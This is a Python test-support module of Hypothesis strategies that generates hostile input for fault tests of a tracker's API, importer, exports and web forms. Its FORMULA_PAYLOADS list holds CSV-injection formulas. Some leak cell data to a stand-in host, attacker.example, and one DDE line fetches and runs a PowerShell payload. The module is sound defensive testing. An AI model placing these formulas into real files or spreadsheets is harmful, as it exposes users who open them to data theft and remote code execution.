"""Hostile input, generated: what a careless program or a malicious person sends.

Hypothesis strategies shared by the fault tests that throw bad input at the
tracker (the API, the importer, the exports, the web forms). Each one is
small and cheap to draw, so hundreds of examples stay fast; `huge_text`
makes its size by repetition, not by drawing every character.

A text here is one of: a formula a spreadsheet would run, control
characters (NUL among them), Unicode that looks like something else, plain
generated text, or whitespace. `wrong_type` is a JSON value where text or a
date belongs, `bad_date` a written day that is not one, `invalid_utf8`
bytes no decoder accepts as UTF-8. Each strategy is made once (`cache`):
hypothesis checks a strategy the first time it draws from it, which costs
more than the drawing.
"""

from __future__ import annotations

from functools import cache
from typing import Any

from hypothesis import strategies as st

# What makes a spreadsheet treat a cell as a formula (OWASP's CSV injection
# list): the first character.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

FORMULA_PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    '=HYPERLINK("http://attacker.example")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/p)'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://attacker.example/")',
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1",
    "+1",
    "-1",
    "@A1",
    "==",
)

# C0 controls, DEL and C1 controls: NUL, escape, bell, form feed, …
CONTROL_CHARACTERS = (
    *(chr(code) for code in range(0x20)),
    "\x7f",
    *(chr(code) for code in range(0x80, 0xA0)),
)

# Characters that render as nothing, as something else, or reorder a line.
LOOKALIKES = (
    "\u200b",  # zero-width space
    "\u200d",  # zero-width joiner
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\ufeff",  # byte order mark
    "\u2028",  # line separator
    "\u2029",  # paragraph separator
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\uff1d",  # fullwidth equals sign
    "e\u0301",  # é, decomposed
    "\ufffd",  # replacement character
    "\uffff",  # a noncharacter
    "\U0010ffff",  # the last code point
    "\U0001f469\u200d\U0001f467",  # a family emoji sequence
    "ë ç Ш ђ ж",  # the letters of the forums' languages
)

# Bytes that no UTF-8 decoder accepts: a lone continuation byte, a start
# byte without its continuation, an overlong slash, a surrogate, past U+10FFFF.
INVALID_UTF8 = (
    b"\xff",
    b"\xfe\xff",
    b"\x80",
    b"\xc3\x28",
    b"\xc3",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\xbc",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
)

BAD_DATES = (
    "",
    " ",
    "2026-02-30",
    "2025-13-01",
    "2026-00-10",
    "0000-01-01",
    "0001-01-01",
    "1899-12-31",
    "9999-12-31",
    "99999-01-01",
    "2026-1-5x",
    "21.11.2025",
    "21/11/2025",
    "2026-01-05T25:00:00",
    "2026-01-05T10:00:00+99:00",
    "yesterday",
    "２０２６-０１-０５",
    "2026\x00-01-05",
    "-2026-01-05",
    "NaN",
)


@cache
def formula_text() -> st.SearchStrategy[str]:
    """Text a spreadsheet would run as a formula."""
    trigger_then_text = st.builds(
        lambda trigger, rest: trigger + rest,
        st.sampled_from(FORMULA_TRIGGERS),
        st.text(max_size=30),
    )
    return st.one_of(st.sampled_from(FORMULA_PAYLOADS), trigger_then_text)


@cache
def control_text() -> st.SearchStrategy[str]:
    """Text with at least one control character in it (NUL in half of them)."""
    controls = st.text(st.sampled_from(CONTROL_CHARACTERS), min_size=1, max_size=4)
    return st.builds(
        lambda before, control, after: before + control + after,
        st.text(max_size=12),
        st.one_of(st.just("\x00"), controls),
        st.text(max_size=12),
    )


@cache
def lookalike_text() -> st.SearchStrategy[str]:
    """Text with characters that hide, mislead or reorder."""
    return st.builds(
        lambda before, odd, after: before + odd + after,
        st.text(max_size=12),
        st.sampled_from(LOOKALIKES),
        st.text(max_size=12),
    )


@cache
def hostile_text() -> st.SearchStrategy[str]:
    """Any of the hostile texts above, plain generated text, or whitespace."""
    return st.one_of(
        formula_text(),
        control_text(),
        lookalike_text(),
        st.text(max_size=60),
        st.sampled_from(("", " ", "\n\t \r\n", "\u00a0")),
    )


@cache
def huge_text(
    min_size: int = 100_000, max_size: int = 2_000_000
) -> st.SearchStrategy[str]:
    """A text of `min_size` to `max_size` characters, made by repetition."""
    return st.builds(
        lambda unit, size: (unit * (size // len(unit) + 1))[:size],
        st.one_of(
            st.text(min_size=1, max_size=8).filter(str.strip),
            formula_text().filter(lambda text: len(text) > 0),
        ),
        st.integers(min_size, max_size),
    )


@cache
def lone_surrogate_text() -> st.SearchStrategy[str]:
    """Text with a UTF-16 surrogate alone: JSON can say it, UTF-8 cannot hold it."""
    return st.builds(
        lambda before, surrogate: before + surrogate,
        st.text(max_size=8),
        st.sampled_from(("\ud800", "\udfff", "\udc80", "\ud83d")),
    )


@cache
def invalid_utf8() -> st.SearchStrategy[bytes]:
    """A short run of bytes that is not UTF-8, between valid text."""
    return st.builds(
        lambda before, bad, after: before.encode() + bad + after.encode(),
        st.text(max_size=6),
        st.sampled_from(INVALID_UTF8),
        st.text(max_size=6),
    )


@cache
def bad_date() -> st.SearchStrategy[str]:
    """A written day that is not a day the tracker takes."""
    return st.one_of(st.sampled_from(BAD_DATES), st.text(max_size=12))


@cache
def wrong_type() -> st.SearchStrategy[Any]:
    """A JSON value of a kind no text or date field takes."""
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        st.lists(st.integers(), max_size=3),
        st.dictionaries(st.text(max_size=4), st.text(max_size=4), max_size=2),
    )


@cache
def hostile_value() -> st.SearchStrategy[Any]:
    """What may turn up in any field of a JSON body."""
    return st.one_of(
        hostile_text(),
        hostile_text(),  # text twice as often: it is what gets accepted
        lone_surrogate_text(),
        bad_date(),
        wrong_type(),
    )
